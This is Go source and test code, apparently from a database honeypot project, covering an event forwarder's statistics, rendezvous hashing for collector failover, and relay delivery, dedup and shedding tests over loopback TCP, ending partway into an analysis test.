// Stats is a point-in-time snapshot of forwarder counters. The books
// always balance: Enqueued = EventsAcked + SpoolEvents + Pending, and
// offered events split into Enqueued + Shed.
type Stats struct {
	Farm      string
	Connected bool

	Enqueued    uint64 // events accepted into pending/spool
	Frames      uint64 // frames encoded
	FramesSent  uint64 // frame writes completed (retransmits included)
	FramesAcked uint64
	EventsAcked uint64 // events the collector tier has acknowledged
	WireBytes   uint64 // compressed frame bytes produced (incl. prefix)
	RawBytes    uint64 // uncompressed payload bytes

	Dials      uint64
	DialErrors uint64
	Reconnects uint64 // successful dials after the first
	// Failovers counts connections served by a different endpoint than
	// the previous one — both emergency cutovers to a lower-ranked
	// collector and failbacks when a better one returned.
	Failovers uint64
	// Reloads counts SetEndpoints calls that changed the endpoint set.
	Reloads uint64

	// Endpoints is the per-collector breakdown, rank order.
	Endpoints []EndpointStats

	// OrphanFrames counts spooled frames pinned to an address absent
	// from the current endpoint set — held back, never retransmitted
	// elsewhere, until the owner returns or Options.OrphanRelease fires.
	OrphanFrames int
	// OrphansReleased counts pins dropped by the orphan-release policy.
	OrphansReleased uint64

	SpoolFrames int   // frames currently spooled (unacked)
	SpoolEvents int   // events in those frames
	SpoolBytes  int64 // wire bytes those frames occupy
	Pending     int   // events not yet framed

	Shed uint64 // events dropped: spool full, oversized, or retry cap
	// Shedders are the heaviest shed sources, descending; at most
	// Options.TopShedders entries.
	Shedders []SourceShed
	// ShedUnattributed counts sheds beyond the bounded attribution table
	// (including events inside frames dropped at the retry cap, whose
	// source addresses are no longer available).
	ShedUnattributed uint64
	// DroppedFrames counts spooled frames dropped at
	// Options.MaxFrameRetries (their events are included in Shed).
	DroppedFrames uint64
	// AckRTT is the distribution of frame write-to-ack round trips —
	// the live health signal for the farm→collector link (a rising RTT
	// means the collector or the path is saturating before the spool
	// ever fills).
	AckRTT core.DurationHist
}

// CompressionRatio is uncompressed/compressed payload bytes (0 when
// nothing has been framed).
func (s Stats) CompressionRatio() float64 {
	if s.WireBytes == 0 {
		return 0
	}
	return float64(s.RawBytes) / float64(s.WireBytes)
}

// String renders the snapshot as one operational log line.
func (s Stats) String() string {
	var sb strings.Builder
	state := "down"
	if s.Connected {
		state = "up"
		for _, ep := range s.Endpoints {
			if ep.Current {
				state = ep.Addr
				break
			}
		}
	}
	fmt.Fprintf(&sb, "relay[%s→%s]: enq=%d acked=%d spool=%d/%dev pend=%d frames=%d ratio=%.2f reconn=%d",
		s.Farm, state, s.Enqueued, s.EventsAcked, s.SpoolFrames, s.SpoolEvents, s.Pending,
		s.Frames, s.CompressionRatio(), s.Reconnects)
	if len(s.Endpoints) > 1 {
		fmt.Fprintf(&sb, " eps=%d failover=%d", len(s.Endpoints), s.Failovers)
	}
	if s.DroppedFrames > 0 {
		fmt.Fprintf(&sb, " dropped=%dfr", s.DroppedFrames)
	}
	if s.Shed > 0 {
		sb.WriteString(" shed[")
		for i, sd := range s.Shedders {
			if i > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "%s=%d", sd.Addr, sd.Shed)
		}
		if s.ShedUnattributed > 0 {
			if len(s.Shedders) > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "evicted=%d", s.ShedUnattributed)
		}
		sb.WriteByte(']')
	}
	return sb.String()
}

// Stats snapshots the counters. Safe to call concurrently with
// recording and delivery.
func (f *ForwardSink) Stats() Stats {
	f.mu.Lock()
	defer f.mu.Unlock()
	st := Stats{
		Farm:             f.opts.Farm,
		Connected:        f.connected,
		Enqueued:         f.enqueued,
		Frames:           f.frames,
		FramesSent:       f.framesSent,
		FramesAcked:      f.framesAcked,
		EventsAcked:      f.eventsAcked,
		WireBytes:        f.wireBytes,
		RawBytes:         f.rawBytes,
		Dials:            f.dials,
		DialErrors:       f.dialErrors,
		Reconnects:       f.reconnects,
		Failovers:        f.failovers,
		Reloads:          f.reloads,
		OrphansReleased:  f.orphansRel,
		SpoolFrames:      len(f.spool),
		SpoolEvents:      f.spoolEv,
		SpoolBytes:       f.spoolB,
		Pending:          len(f.pending),
		Shed:             f.shed,
		ShedUnattributed: f.shedUnattr,
		DroppedFrames:    f.droppedFr,
		AckRTT:           f.ackRTT,
	}
	pinned := make(map[string]int, len(f.eps))
	for _, fr := range f.spool {
		if fr.owner == "" {
			continue
		}
		pinned[fr.owner]++
		if f.endpointByAddrLocked(fr.owner) == nil {
			st.OrphanFrames++
		}
	}
	for i, ep := range f.eps {
		st.Endpoints = append(st.Endpoints, EndpointStats{
			Addr:         ep.addr,
			Rank:         i,
			Current:      f.connected && f.cur == ep,
			Dials:        ep.dials,
			DialErrors:   ep.dialErrors,
			FramesAcked:  ep.framesAcked,
			EventsAcked:  ep.eventsAcked,
			PinnedFrames: pinned[ep.addr],
			Backoff:      ep.backoff,
		})
	}
	for a, n := range f.shedSrc {
		if n > 0 {
			st.Shedders = append(st.Shedders, SourceShed{Addr: a, Shed: n})
		}
	}
	sort.Slice(st.Shedders, func(i, j int) bool {
		if st.Shedders[i].Shed != st.Shedders[j].Shed {
			return st.Shedders[i].Shed > st.Shedders[j].Shed
		}
		return st.Shedders[i].Addr.Less(st.Shedders[j].Addr)
	})
	if len(st.Shedders) > f.opts.TopShedders {
		st.Shedders = st.Shedders[:f.opts.TopShedders]
	}
	return st
}
