package relay

import "sort"

// Rendezvous (highest-random-weight) hashing assigns each farm a total
// order over the collector tier: the farm forwards to the first-ranked
// collector and fails over down the list when it dies. The properties
// the tier depends on:
//
//   - Deterministic across processes: the score is a fixed FNV-1a
//     construction over (farm, addr) bytes, so every farm, collector and
//     operator tool computes the same ranking with no coordination.
//   - Minimal disruption: removing one collector only remaps the farms
//     that ranked it first — everyone else's order is unchanged, because
//     each (farm, addr) score is independent of the rest of the set.
//   - Spread: scores are effectively uniform, so farms split roughly
//     evenly across the tier.

// fnv1a64 hashes the rendezvous key. Constants are the standard FNV-1a
// 64-bit offset basis and prime; spelled out here (rather than
// hash/fnv) so the wire-stability contract is visible at the call site
// and the hot path stays allocation-free.
func fnv1a64(farm, addr string) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(farm); i++ {
		h ^= uint64(farm[i])
		h *= prime64
	}
	h ^= 0 // separator so ("ab","c") and ("a","bc") differ
	h *= prime64
	for i := 0; i < len(addr); i++ {
		h ^= uint64(addr[i])
		h *= prime64
	}
	return h
}

// RankEndpoints orders collector addresses by descending rendezvous
// score for the given farm name: index 0 is the collector this farm
// forwards to, index 1 its first failover, and so on. Ties (possible
// only with duplicate addresses) break on address order so the result
// is always a total order. The input slice is not modified.
func RankEndpoints(farm string, addrs []string) []string {
	ranked := append([]string(nil), addrs...)
	scores := make(map[string]uint64, len(ranked))
	for _, a := range ranked {
		scores[a] = fnv1a64(farm, a)
	}
	sort.SliceStable(ranked, func(i, j int) bool {
		si, sj := scores[ranked[i]], scores[ranked[j]]
		if si != sj {
			return si > sj
		}
		return ranked[i] < ranked[j]
	})
	return ranked
}
