package relay

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// testEvent builds a representative event with every field populated so
// codec tests exercise the full schema.
func testEvent(i int) core.Event {
	return core.Event{
		Time: time.Unix(1700000000+int64(i), int64(i)*1001).UTC(),
		Src:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(i >> 8), byte(i)}), uint16(40000+i%1000)),
		Honeypot: core.Info{
			DBMS: core.MySQL, Level: core.Low, Port: 3306,
			Instance: i % 7, Config: core.ConfigDefault, Group: core.GroupMulti,
			VM: "vm-1", Region: "eu",
		},
		Kind:    core.EventLogin,
		User:    fmt.Sprintf("user%d", i),
		Pass:    fmt.Sprintf("pass%d", i),
		OK:      i%3 == 0,
		Command: "SHOW DATABASES",
		Raw:     "\x16\x03\x01 raw bytes",
	}
}

func testEvents(n int) []core.Event {
	evs := make([]core.Event, n)
	for i := range evs {
		evs[i] = testEvent(i)
	}
	return evs
}

// memSink is a thread-safe in-memory BatchSink for collector tests.
type memSink struct {
	mu     sync.Mutex
	events []core.Event
}

func (m *memSink) Record(e core.Event) {
	m.mu.Lock()
	m.events = append(m.events, e)
	m.mu.Unlock()
}

func (m *memSink) RecordBatch(events []core.Event) error {
	m.mu.Lock()
	m.events = append(m.events, events...)
	m.mu.Unlock()
	return nil
}

func (m *memSink) len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.events)
}

func (m *memSink) snapshot() []core.Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]core.Event, len(m.events))
	copy(out, m.events)
	return out
}

func TestBatchRoundTrip(t *testing.T) {
	in := testEvents(100)
	body, rawLen, err := EncodeBatch(42, in, 0)
	if err != nil {
		t.Fatal(err)
	}
	if rawLen <= 0 {
		t.Fatalf("rawLen = %d, want > 0", rawLen)
	}
	seq, out, gotRaw, err := DecodeBatch(body, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if seq != 42 {
		t.Fatalf("seq = %d, want 42", seq)
	}
	if gotRaw != rawLen {
		t.Fatalf("rawLen = %d, want %d", gotRaw, rawLen)
	}
	if len(out) != len(in) {
		t.Fatalf("decoded %d events, want %d", len(out), len(in))
	}
	for i := range in {
		if !in[i].Time.Equal(out[i].Time) {
			t.Fatalf("event %d time: %v != %v", i, out[i].Time, in[i].Time)
		}
		a, b := in[i], out[i]
		a.Time, b.Time = time.Time{}, time.Time{}
		if a != b {
			t.Fatalf("event %d round trip mismatch:\n in: %+v\nout: %+v", i, in[i], out[i])
		}
	}
}

func TestBatchRejectsCorruption(t *testing.T) {
	body, _, err := EncodeBatch(1, testEvents(10), 0)
	if err != nil {
		t.Fatal(err)
	}

	// Flip one byte in the compressed payload: the CRC must catch it
	// before inflation.
	bad := append([]byte(nil), body...)
	bad[len(bad)-1] ^= 0xff
	if _, _, _, err := DecodeBatch(bad, Limits{}); !errors.Is(err, ErrChecksum) {
		t.Fatalf("corrupted payload: err = %v, want ErrChecksum", err)
	}

	// Wrong magic and wrong version are refused outright.
	bad = append([]byte(nil), body...)
	bad[0] ^= 0xff
	if _, _, _, err := DecodeBatch(bad, Limits{}); !errors.Is(err, ErrBadFrame) {
		t.Fatalf("bad magic: err = %v, want ErrBadFrame", err)
	}
	bad = append([]byte(nil), body...)
	bad[4] = Version + 1
	if _, _, _, err := DecodeBatch(bad, Limits{}); !errors.Is(err, ErrBadVersion) {
		t.Fatalf("bad version: err = %v, want ErrBadVersion", err)
	}

	// Truncation anywhere must error, never panic.
	for n := 0; n < len(body); n++ {
		if _, _, _, err := DecodeBatch(body[:n], Limits{}); err == nil {
			t.Fatalf("truncated to %d bytes: decoded successfully", n)
		}
	}
}

func TestBatchHonoursLimits(t *testing.T) {
	body, _, err := EncodeBatch(1, testEvents(100), 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, _, err := DecodeBatch(body, Limits{MaxEvents: 10}); !errors.Is(err, ErrBadFrame) {
		t.Fatalf("over MaxEvents: err = %v, want ErrBadFrame", err)
	}
	if _, _, _, err := DecodeBatch(body, Limits{MaxRaw: 64}); !errors.Is(err, wire.ErrFrameTooLarge) {
		t.Fatalf("over MaxRaw: err = %v, want wire.ErrFrameTooLarge", err)
	}
	if _, _, _, err := DecodeBatch(body, Limits{}); err != nil {
		t.Fatalf("default limits: %v", err)
	}
}

// startCollector binds a loopback listener and serves coll on it.
func startCollector(t *testing.T, coll *Collector) (addr string, stop func()) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- coll.Serve(ln) }()
	// Wait for Serve to register the listener: a Close racing a
	// just-started Serve leaves the listener running (see Close docs).
	waitFor(t, 5*time.Second, func() bool { return coll.Stats().Listeners > 0 }, "collector serving")
	return ln.Addr().String(), func() {
		coll.Close()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	}
}

func waitFor(t *testing.T, timeout time.Duration, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func TestForwardDelivery(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "s3cret"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{Addrs: []string{addr}, Token: "s3cret", Farm: "farm-a", FrameEvents: 16})
	if err != nil {
		t.Fatal(err)
	}
	in := testEvents(500)
	for i := 0; i < len(in); i += 50 {
		if err := fwd.RecordBatch(in[i : i+50]); err != nil {
			t.Fatal(err)
		}
	}
	fwd.Flush()
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}

	if got := sink.len(); got != len(in) {
		t.Fatalf("collector ingested %d events, want %d", got, len(in))
	}
	out := sink.snapshot()
	for i := range in {
		if out[i].User != in[i].User || out[i].Src != in[i].Src {
			t.Fatalf("event %d out of order or corrupted: %+v", i, out[i])
		}
	}

	fst := fwd.Stats()
	if fst.EventsAcked != uint64(len(in)) || fst.Shed != 0 {
		t.Fatalf("forwarder stats: acked=%d shed=%d, want %d/0", fst.EventsAcked, fst.Shed, len(in))
	}
	if fst.Enqueued != fst.EventsAcked+uint64(fst.SpoolEvents)+uint64(fst.Pending) {
		t.Fatalf("accounting broken: %+v", fst)
	}
	cst := coll.Stats()
	if cst.Events != uint64(len(in)) || cst.AuthFailures != 0 {
		t.Fatalf("collector stats: %+v", cst)
	}
	if cst.CompressionRatio() <= 1 {
		t.Fatalf("compression ratio %.2f, want > 1 for repetitive events", cst.CompressionRatio())
	}
	if len(cst.Farms) != 1 || cst.Farms[0].Name != "farm-a" {
		t.Fatalf("farms: %+v", cst.Farms)
	}
}

func TestCollectorRejectsBadToken(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "right"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "wrong", Farm: "rogue",
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()
	if err := fwd.RecordBatch(testEvents(4)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 2*time.Second, func() bool { return coll.Stats().AuthFailures >= 1 }, "auth failure")
	if got := sink.len(); got != 0 {
		t.Fatalf("unauthenticated forwarder delivered %d events", got)
	}

	// Raw garbage on the port must also be counted and cut, not crash.
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	conn.Write([]byte{0x00, 0x00, 0x00, 0x04, 0xde, 0xad, 0xbe, 0xef})
	conn.Close()
	waitFor(t, 2*time.Second, func() bool { return coll.Stats().AuthFailures >= 2 }, "garbage rejection")
}

func TestForwardShedsWhenDown(t *testing.T) {
	// No collector at all: a tiny spool must fill, then shed with
	// per-source attribution, without ever blocking RecordBatch.
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{"127.0.0.1:1"}, Token: "t", Farm: "dark",
		FrameEvents: 8, SpoolFrames: 2,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 40; i++ {
			fwd.RecordBatch(testEvents(8))
		}
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("RecordBatch blocked with a full spool and Block unset")
	}

	st := fwd.Stats()
	if st.Shed == 0 {
		t.Fatalf("no shedding with spool of 2 frames: %+v", st)
	}
	offered := uint64(40 * 8)
	if st.Enqueued+st.Shed != offered {
		t.Fatalf("offered accounting: enqueued %d + shed %d != %d", st.Enqueued, st.Shed, offered)
	}
	if st.Enqueued != st.EventsAcked+uint64(st.SpoolEvents)+uint64(st.Pending) {
		t.Fatalf("enqueued accounting broken: %+v", st)
	}
	var attributed uint64
	for _, s := range st.Shedders {
		attributed += s.Shed
	}
	if attributed+st.ShedUnattributed != st.Shed && len(st.Shedders) == DefaultTopShedders {
		// Top-K may truncate; only the untruncated case must balance.
		t.Logf("shedders truncated to top %d", len(st.Shedders))
	} else if len(st.Shedders) < DefaultTopShedders && attributed+st.ShedUnattributed != st.Shed {
		t.Fatalf("shed attribution: %d attributed + %d unattributed != %d shed",
			attributed, st.ShedUnattributed, st.Shed)
	}
}

func TestCollectorRestartDedups(t *testing.T) {
	// Kill the collector mid-stream, restart it on the same address, and
	// verify the retransmit protocol delivers every event exactly once.
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	done := make(chan error, 1)
	go func() { done <- coll.Serve(ln) }()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "farm-r", FrameEvents: 8,
		MinBackoff: time.Millisecond, MaxBackoff: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}

	const total = 600
	in := testEvents(total)
	half := total / 2
	if err := fwd.RecordBatch(in[:half]); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return sink.len() >= half/2 }, "first half partially delivered")

	// Kill: connections drop; the forwarder keeps unacked frames spooled.
	coll.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if err := fwd.RecordBatch(in[half:]); err != nil {
		t.Fatal(err)
	}

	// Restart on the same address with the same dedup state.
	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	go func() { done <- coll.Serve(ln2) }()
	// The final Close only stops listeners Serve has registered; wait
	// for the re-arm to be visible before draining and shutting down.
	waitFor(t, 5*time.Second, func() bool { return coll.Stats().Listeners > 0 }, "listener re-registered")

	fwd.Flush()
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	coll.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}

	// Exact accounting: recorded = ingested + spooled + shed.
	fst := fwd.Stats()
	cst := coll.Stats()
	if fst.Shed != 0 {
		t.Fatalf("unexpected shedding: %+v", fst)
	}
	got := cst.Events + uint64(fst.SpoolEvents) + uint64(fst.Pending)
	if got != total {
		t.Fatalf("accounting: ingested %d + spooled %d + pending %d = %d, want %d",
			cst.Events, fst.SpoolEvents, fst.Pending, got, total)
	}
	if sink.len() != int(cst.Events) {
		t.Fatalf("sink has %d events, collector counted %d", sink.len(), cst.Events)
	}
	// No duplicates in the sink despite retransmits.
	seen := make(map[string]bool, total)
	for _, e := range sink.snapshot() {
		if seen[e.User] {
			t.Fatalf("event %q delivered twice", e.User)
		}
		seen[e.User] = true
	}
	if fst.Reconnects == 0 {
		t.Fatalf("expected at least one reconnect: %+v", fst)
	}
}

func TestFarmRestartResumesIngest(t *testing.T) {
	// A restarted farm process restarts its sequence numbering at 1. The
	// collector keys dedup on the session epoch announced in HELLO, so
	// the new session's batches must be ingested — not classified as
	// duplicates of the old session's high-water mark and silently
	// dropped.
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	run := func(n, off int) {
		t.Helper()
		fwd, err := NewForwardSink(ForwardOptions{Addrs: []string{addr}, Token: "tok", Farm: "farm-x", FrameEvents: 8})
		if err != nil {
			t.Fatal(err)
		}
		evs := make([]core.Event, n)
		for i := range evs {
			evs[i] = testEvent(off + i)
		}
		if err := fwd.RecordBatch(evs); err != nil {
			t.Fatal(err)
		}
		fwd.Flush()
		if err := fwd.Close(); err != nil {
			t.Fatal(err)
		}
		if st := fwd.Stats(); st.EventsAcked != uint64(n) {
			t.Fatalf("acked %d of %d events: %+v", st.EventsAcked, n, st)
		}
	}
	run(100, 0)   // first process, sequences 1..13
	run(60, 1000) // restarted process, sequences restart at 1
	if got := sink.len(); got != 160 {
		t.Fatalf("collector ingested %d events across restart, want 160", got)
	}
	cst := coll.Stats()
	if cst.DupEvents != 0 {
		t.Fatalf("restart misread as duplicates: %+v", cst)
	}
	if len(cst.Farms) != 1 || cst.Farms[0].Epoch == 0 {
		t.Fatalf("farm epoch not tracked: %+v", cst.Farms)
	}
}

func TestRejectsOverlongNames(t *testing.T) {
	long := strings.Repeat("a", MaxName+1)
	if _, err := NewForwardSink(ForwardOptions{Addrs: []string{"x:1"}, Token: long}); err == nil {
		t.Fatal("overlong token accepted by NewForwardSink; it would be truncated on the wire and never authenticate")
	}
	if _, err := NewForwardSink(ForwardOptions{Addrs: []string{"x:1"}, Token: "t", Farm: long}); err == nil {
		t.Fatal("overlong farm name accepted by NewForwardSink")
	}
	if _, err := NewCollector(CollectorOptions{Token: long}, &memSink{}); err == nil {
		t.Fatal("overlong token accepted by NewCollector")
	}
}

func TestOversizedBatchSplitAndShed(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok", Limits: Limits{MaxRaw: 4096}}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "big",
		FrameEvents: 16, MaxRaw: 4096,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}

	// 16 events of ~600 raw bytes encode past MaxRaw in one cut: the
	// forwarder must split the batch rather than spool a frame the
	// collector would reject.
	big := make([]core.Event, 16)
	for i := range big {
		big[i] = testEvent(i)
		big[i].Raw = strings.Repeat("x", 512)
	}
	if err := fwd.RecordBatch(big); err != nil {
		t.Fatal(err)
	}
	// One event that cannot fit alone is shed with attribution instead
	// of poisoning the spool head.
	huge := testEvent(99)
	huge.Raw = strings.Repeat("y", 8192)
	if err := fwd.RecordBatch([]core.Event{huge}); err != nil {
		t.Fatal(err)
	}
	fwd.Flush()

	if got := sink.len(); got != len(big) {
		t.Fatalf("collector ingested %d events, want %d (split frames delivered, oversized event shed)", got, len(big))
	}
	st := fwd.Stats()
	if st.Shed != 1 || st.DroppedFrames != 0 {
		t.Fatalf("stats: shed=%d dropped=%d, want 1/0: %+v", st.Shed, st.DroppedFrames, st)
	}
	if st.Frames < 2 {
		t.Fatalf("oversized batch not split: %d frames", st.Frames)
	}
	if st.Enqueued != st.EventsAcked+uint64(st.SpoolEvents)+uint64(st.Pending) {
		t.Fatalf("accounting broken: %+v", st)
	}
	if err := fwd.Close(); err == nil {
		t.Fatal("shedding an un-shippable event must surface via Err/Close")
	}
}

func TestPoisonFrameDroppedAfterRetries(t *testing.T) {
	// The collector enforces stricter decode limits than the forwarder
	// validates against (limits skew between the two ends). Its decode
	// rejection drops the connection; the forwarder must give up on the
	// rejected frame at the retry cap — with the loss accounted — rather
	// than retransmit it forever while the spool backs up behind it.
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok", Limits: Limits{MaxRaw: 2048}}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "skew",
		FrameEvents: 4, MaxFrameRetries: 3,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	poison := make([]core.Event, 4)
	for i := range poison {
		poison[i] = testEvent(i)
		poison[i].Raw = strings.Repeat("p", 700) // ~2900 raw bytes > the collector's 2048
	}
	if err := fwd.RecordBatch(poison); err != nil {
		t.Fatal(err)
	}
	good := testEvents(4)
	if err := fwd.RecordBatch(good); err != nil {
		t.Fatal(err)
	}

	waitFor(t, 10*time.Second, func() bool { return sink.len() == len(good) }, "good frame delivered once the poison frame is dropped")
	st := fwd.Stats()
	if st.DroppedFrames != 1 || st.Shed != uint64(len(poison)) {
		t.Fatalf("stats: dropped=%d shed=%d, want 1/%d: %+v", st.DroppedFrames, st.Shed, len(poison), st)
	}
	if st.Enqueued != st.EventsAcked+uint64(st.SpoolEvents)+uint64(st.Pending) {
		t.Fatalf("accounting broken: %+v", st)
	}
	if coll.Stats().BadFrames == 0 {
		t.Fatal("collector never rejected the oversized frame")
	}
	if err := fwd.Close(); err == nil {
		t.Fatal("dropping a frame must surface via Err/Close")
	}
}

func TestIdleConnectionDropped(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok", IdleTimeout: 50 * time.Millisecond}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{Addrs: []string{addr}, Token: "tok", Farm: "quiet"})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()
	if err := fwd.RecordBatch(testEvents(3)); err != nil {
		t.Fatal(err)
	}
	fwd.Flush()
	waitFor(t, 2*time.Second, func() bool { return sink.len() == 3 }, "delivery")

	// The farm now goes silent: the collector must reap the connection
	// instead of pinning its handler goroutine and Active slot forever.
	waitFor(t, 2*time.Second, func() bool { return coll.Stats().Active == 0 }, "idle connection reaped")
	waitFor(t, 2*time.Second, func() bool { return !fwd.Stats().Connected }, "forwarder observed the cut")
}

// flakySink fails its first `failures` batches, then ingests normally.
type flakySink struct {
	mu       sync.Mutex
	failures int
	events   []core.Event
}

func (s *flakySink) Record(e core.Event) { _ = s.RecordBatch([]core.Event{e}) }

func (s *flakySink) RecordBatch(events []core.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.failures > 0 {
		s.failures--
		return errors.New("sink down")
	}
	s.events = append(s.events, events...)
	return nil
}

func (s *flakySink) len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.events)
}

func TestAllSinksFailingDefersAck(t *testing.T) {
	// When every sink refuses a batch the collector must not ack it (an
	// ack means the events are safe); dropping the connection makes the
	// forwarder retransmit, so the batch lands exactly once after the
	// sinks recover.
	sink := &flakySink{failures: 2}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "flaky",
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := fwd.RecordBatch(testEvents(10)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return sink.len() == 10 }, "delivery after sink recovery")
	fwd.Flush()
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if got := sink.len(); got != 10 {
		t.Fatalf("sink has %d events after retries, want exactly 10", got)
	}
	cst := coll.Stats()
	if cst.Events != 10 || cst.SinkErrors != 2 {
		t.Fatalf("collector stats: events=%d sinkErrors=%d, want 10/2: %+v", cst.Events, cst.SinkErrors, cst)
	}
	if coll.Err() == nil {
		t.Fatal("sink failures must surface via Err")
	}
}

func TestStatsString(t *testing.T) {
	var fs Stats
	fs.Farm = "f"
	if fs.String() == "" {
		t.Fatal("empty forwarder stats line")
	}
	var cs CollectorStats
	if cs.String() == "" {
		t.Fatal("empty collector stats line")
	}
}

// BenchmarkRelayThroughput measures end-to-end acked events/s over real
// loopback TCP: encode, frame, write, decode, dedup, ingest, ack.
func BenchmarkRelayThroughput(b *testing.B) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "bench"}, sink)
	if err != nil {
		b.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	go coll.Serve(ln)
	defer coll.Close()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{ln.Addr().String()}, Token: "bench", Farm: "bench",
		Block: true, // measure delivered throughput, not shed throughput
	})
	if err != nil {
		b.Fatal(err)
	}
	defer fwd.Close()

	const batch = 256
	events := testEvents(batch)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := fwd.RecordBatch(events); err != nil {
			b.Fatal(err)
		}
	}
	fwd.Flush()
	b.StopTimer()
	total := float64(b.N) * batch
	b.ReportMetric(total/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(fwd.Stats().CompressionRatio(), "ratio")
}
