package analysis

import (
	"math"
	"net/netip"
	"testing"
	"testing/quick"

	"decoydb/internal/asdb"
	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

func TestRetentionCDF(t *testing.T) {
	// 4 of 10 single-day, 3 two-day, 3 twenty-day.
	counts := []int{1, 1, 1, 1, 2, 2, 2, 20, 20, 20}
	cdf := RetentionCDF(counts, 20)
	if math.Abs(cdf.At(1)-0.4) > 1e-9 {
		t.Fatalf("CDF(1) = %v", cdf.At(1))
	}
	if math.Abs(cdf.At(2)-0.7) > 1e-9 {
		t.Fatalf("CDF(2) = %v", cdf.At(2))
	}
	if cdf.At(19) != 0.7 || cdf.At(20) != 1 {
		t.Fatalf("tail = %v %v", cdf.At(19), cdf.At(20))
	}
	if cdf.At(0) != 0 || cdf.At(21) != 0 {
		t.Fatal("out-of-range CDF values")
	}
	if got := RetentionCDF(nil, 20); got.At(20) != 0 {
		t.Fatal("empty CDF")
	}
}

// Property: any retention CDF is monotone non-decreasing and ends at 1.
